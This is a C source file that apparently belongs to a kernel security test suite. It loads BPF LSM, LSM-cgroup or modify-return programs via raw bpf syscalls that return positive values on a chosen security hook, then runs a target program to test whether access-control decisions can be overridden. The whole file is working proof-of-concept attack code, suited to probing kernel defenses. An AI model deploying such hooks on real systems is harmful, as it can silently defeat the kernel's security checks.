/*
 * A listed program that has the kernel run a program of its own on the gate's hook, whose answer, a positive one, is no
 * refusal and yet the last word: `answer_for_gate HOW FUNCTION CALLER`, with the number of the function in the kernel's
 * types, and a program that is not listed, which it runs then. HOW is lsm, cgroup or modify, or twin: an answer of 0.
 */
#include "attack.h"

enum { PROG_LOAD = 5, RAW_TRACEPOINT_OPEN = 17, LINK_CREATE = 28 };
enum { TYPE_TRACING = 26, TYPE_LSM = 29 };
enum { AS_MODIFY_RETURN = 26, AS_LSM = 27, AS_LSM_CGROUP = 43 };

struct instruction {
	uint8_t code, registers;
	int16_t offset;
	int32_t value;
};

static long bpf(int command, void *attributes, size_t size)
{
	return syscall(SYS_bpf, command, attributes, size);
}

static long load(int type, int as, int function, const struct instruction *code, int count)
{
	static char log[65536];
	uint32_t attributes[36] = { type, count };
	uint64_t pointers[] = { (uintptr_t)code, (uintptr_t)"GPL" }, address = (uintptr_t)log;

	memcpy(attributes + 2, pointers, sizeof(pointers));
	attributes[6] = 1;
	attributes[7] = sizeof(log);
	memcpy(attributes + 8, &address, 8);
	attributes[17] = as;
	attributes[27] = function;
	long fd = bpf(PROG_LOAD, attributes, sizeof(attributes));

	if (fd < 0 && errno == EINVAL && strstr(log, "should have been in [-4095, 0]"))
		end(STOPPED, "Operation not supported: this kernel's verifier looks at the answer");
	return may(fd, "PROG_LOAD");
}

static long attach(long program)
{
	uint64_t attributes[2] = { 0, program };

	return may(bpf(RAW_TRACEPOINT_OPEN, attributes, sizeof(attributes)), "RAW_TRACEPOINT_OPEN");
}

static long attach_to_all(long program)
{
	uint32_t attributes[8] = { program, need(open("/sys/fs/cgroup", O_RDONLY), "cgroup"), AS_LSM_CGROUP };

	return may(bpf(LINK_CREATE, attributes, sizeof(attributes)), "LINK_CREATE");
}

int main(int argc, char **argv)
{
	if (argc != 4)
		end(ERROR, "HOW, FUNCTION and CALLER are needed");
	struct instruction answer[] = { { 0xb7, 0, 0, strcmp(argv[1], "twin") != 0 }, { 0x95, 0, 0, 0 } };
	struct instruction answer_in_cgroup[] = {
		{ 0xb7, 1, 0, 1 }, { 0x85, 0, 0, 187 /* bpf_set_retval */ }, { 0xb7, 0, 0, 1 }, { 0x95, 0, 0, 0 }
	};
	int function = atoi(argv[2]);

	if (strcmp(argv[1], "cgroup") == 0)
		attach_to_all(load(TYPE_LSM, AS_LSM_CGROUP, function, answer_in_cgroup, 4));
	else if (strcmp(argv[1], "modify") == 0)
		attach(load(TYPE_TRACING, AS_MODIFY_RETURN, function, answer, 2));
	else
		attach(load(TYPE_LSM, AS_LSM, function, answer, 2));
	if (strcmp(argv[1], "twin") == 0)
		end_by_bpf();
	int status;
	pid_t child = need(fork(), "fork");

	if (child == 0) {
		execl(argv[3], argv[3], NULL);
		_exit(ERROR);
	}
	need(waitpid(child, &status, 0), "waitpid");
	_exit(WIFEXITED(status) ? WEXITSTATUS(status) : ERROR);
}
